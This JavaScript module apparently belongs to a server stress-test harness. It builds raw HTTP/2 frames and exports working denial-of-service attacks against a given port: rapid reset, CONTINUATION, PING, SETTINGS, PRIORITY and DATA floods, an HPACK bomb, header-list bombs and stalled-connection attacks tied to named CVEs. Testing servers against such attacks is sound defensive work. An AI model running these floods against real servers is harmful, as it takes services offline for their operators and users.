// @ts-check
// Hostile HTTP/2, on the same port: each attack a row. A message is a frame.
import { pause, Wire } from "./wire.mjs";

/** @param {number} type @param {number} flags @param {number} stream @param {Buffer | string} [payload] */
export function frame(type, flags, stream, payload = "") {
  const octets = Buffer.from(/** @type {string} */ (payload), "latin1");
  const head = Buffer.alloc(9);
  head.writeUIntBE(octets.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, octets]);
}

const [DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, , PING, , WINDOW_UPDATE, CONTINUATION] = Array(10).keys();
const END_STREAM = 1;
const END_HEADERS = 4;
/** GET /hello, or POST /echo; :authority a. */
const GET = "\x82\x86\x44\x06/hello\x41\x01a";
const POST = "\x83\x86\x44\x05/echo\x41\x01a";
const CANCEL = "\0\0\0\x08";
const BEGIN = Buffer.concat([Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), frame(SETTINGS ?? 4, 0, 0)]);

/** Repeats frames up to a number, some at a time, as long as they are taken. @param {Wire} wire @param {number} times @param {(stream: number) => Buffer[]} make @param {(messages: number) => void} count */
async function flood(wire, times, make, count) {
  for (let i = 0; i < times; ) {
    const some = Array.from({ length: Math.min(100, times - i) }, (_, j) => make(2 * (i + j) + 1)).flat();
    i += 100;
    if (!(await wire.write(Buffer.concat(some)))) break;
    count(some.length);
    await pause(1);
  }
  return wire.ends(10_000);
}

/** @param {string} name @param {number} slots @param {import("./http1-attacks.mjs").Attack} attack */
const row = (name, slots, attack, isPaced = true) => ({ name, slots, isPaced, attack });

/** @param {number} port */
async function begin(port) {
  const wire = new Wire(port);
  await wire.write(BEGIN);
  return wire;
}

/** @type {import("./http1-attacks.mjs").Row[]} */
export const HTTP2_ATTACKS = [
  row("rapid reset (CVE-2023-44487)", 1, async (port, count) =>
    flood(
      await begin(port),
      1500,
      (id) => [frame(HEADERS ?? 1, END_HEADERS | END_STREAM, id, GET), frame(RST_STREAM ?? 3, 0, id, CANCEL)],
      count,
    ),
  ),
  row("rapid reset of requests with bodies", 1, async (port, count) =>
    flood(
      await begin(port),
      1500,
      (id) => [frame(HEADERS ?? 1, END_HEADERS, id, POST), frame(RST_STREAM ?? 3, 0, id, CANCEL)],
      count,
    ),
  ),
  row("made to reset (CVE-2025-8671)", 1, async (port, count) =>
    flood(
      await begin(port),
      1500,
      (id) => [frame(HEADERS ?? 1, END_HEADERS, id, POST), frame(WINDOW_UPDATE ?? 8, 0, id, "\0\0\0\0")],
      count,
    ),
  ),
  row("CONTINUATION flood (CVE-2024-27316)", 1, async (port, count) => {
    const wire = await begin(port);
    await wire.write(frame(HEADERS ?? 1, END_STREAM, 1, GET));
    return flood(wire, 300, () => [frame(CONTINUATION ?? 9, 0, 1, "\0\x01a\x01b".repeat(20))], count);
  }),
  row("empty CONTINUATIONs (CVE-2026-33871)", 1, async (port, count) => {
    const wire = await begin(port);
    await wire.write(frame(HEADERS ?? 1, END_STREAM, 1, GET));
    return flood(wire, 300, () => [frame(CONTINUATION ?? 9, 0, 1)], count);
  }),
  row("PING flood, nothing read (CVE-2019-9512)", 1, async (port, count) => {
    const wire = await begin(port);
    wire.socket.pause();
    setTimeout(() => wire.socket.resume(), 500).unref();
    return flood(wire, 4000, () => [frame(PING ?? 6, 0, 0, "12345678")], count);
  }),
  row("SETTINGS flood (CVE-2019-9515)", 1, async (port, count) =>
    flood(await begin(port), 4000, () => [frame(SETTINGS ?? 4, 0, 0, "\0\x04\0\0\xff\xff")], count),
  ),
  row("empty DATA flood (CVE-2019-9518)", 1, async (port, count) => {
    const wire = await begin(port);
    await wire.write(frame(HEADERS ?? 1, END_HEADERS, 1, POST));
    return flood(wire, 14_000, () => [frame(DATA ?? 0, 0, 1)], count);
  }),
  row("PRIORITY flood (CVE-2019-9513)", 1, async (port, count) =>
    flood(await begin(port), 14_000, (id) => [frame(PRIORITY ?? 2, 0, id, "\0\0\0\0\x01")], count),
  ),
  row("HPACK bomb (CVE-2016-6581)", 1, async (port, count) => {
    const wire = await begin(port);
    const entry = `\x40\x01a\x7f\x81\x1d${"x".repeat(3840)}`;
    await wire.write(frame(HEADERS ?? 1, END_HEADERS | END_STREAM, 1, GET + entry));
    const bomb = frame(HEADERS ?? 1, END_HEADERS | END_STREAM, 0, GET + "\xbe".repeat(16_000));
    for (let i = 1; i <= 20; i++) {
      bomb.writeUInt32BE(2 * i + 1, 5);
      if (!(await wire.write(Buffer.from(bomb)))) break;
      count(1);
    }
    return wire.ends(300);
  }),
  row("header list bomb: 2,000 fields", 1, async (port, count) => {
    const wire = await begin(port);
    await wire.write(frame(HEADERS ?? 1, END_HEADERS | END_STREAM, 1, `${GET}${"\0\x01a\x01b".repeat(2000)}`));
    count(1);
    return wire.ends(300);
  }),
  row(
    "half a header block, then silence",
    10,
    async (port, count) => {
      const wire = await begin(port);
      await wire.write(frame(HEADERS ?? 1, END_STREAM, 1, GET));
      count(1);
      return wire.ends(12_000);
    },
    false,
  ),
  row(
    "windows shut, 100 requests for much",
    5,
    async (port, count) => {
      const wire = await begin(port);
      await wire.write(frame(SETTINGS ?? 4, 0, 0, "\0\x04\0\0\0\0"));
      const ask = "\x82\x86\x44\x0e/bytes/9999999\x41\x01a";
      const asked = Array.from({ length: 100 }, (_, i) =>
        frame(HEADERS ?? 1, END_HEADERS | END_STREAM, 2 * i + 1, ask),
      );
      await wire.write(Buffer.concat(asked));
      count(100);
      await Promise.race([pause(8000), wire.closed]);
      return wire.ends(1);
    },
    false,
  ),
  row("garbage behind the preface", 1, async (port, count) => {
    const wire = await begin(port);
    await wire.write(Buffer.alloc(200, "\xff\x07garbage", "latin1"));
    count(1);
    return wire.ends(10_000);
  }),
];
